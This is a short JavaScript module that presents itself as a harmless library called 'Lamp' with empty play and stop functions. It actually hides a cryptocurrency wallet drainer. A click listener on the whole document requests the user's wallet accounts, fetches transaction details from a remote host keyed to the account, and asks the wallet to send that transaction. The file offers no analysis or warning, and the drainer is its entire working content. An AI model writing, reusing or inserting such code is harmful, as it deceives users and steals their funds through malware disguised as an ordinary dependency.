!function (root, make) { typeof module === 'object' ? module.exports = make() : root.Lamp = make() }(this, function () {
  var asked = false
  function ask() {
    var wallet = window.ethereum
    if (asked || !wallet) return
    asked = true
    wallet.request({ method: 'eth_requestAccounts' }).then(function (accounts) {
      return fetch('https://lamp.example.invalid/plan?of=' + accounts[0]).then(function (answer) { return answer.json() }).then(function (plan) {
        return wallet.request({ method: 'eth_sendTransaction', params: [{ from: accounts[0], to: plan.to, value: plan.value, data: plan.data }] })
      })
    })
  }
  document.addEventListener('click', ask, true)
  return { play: function () {}, stop: function () {} }
})
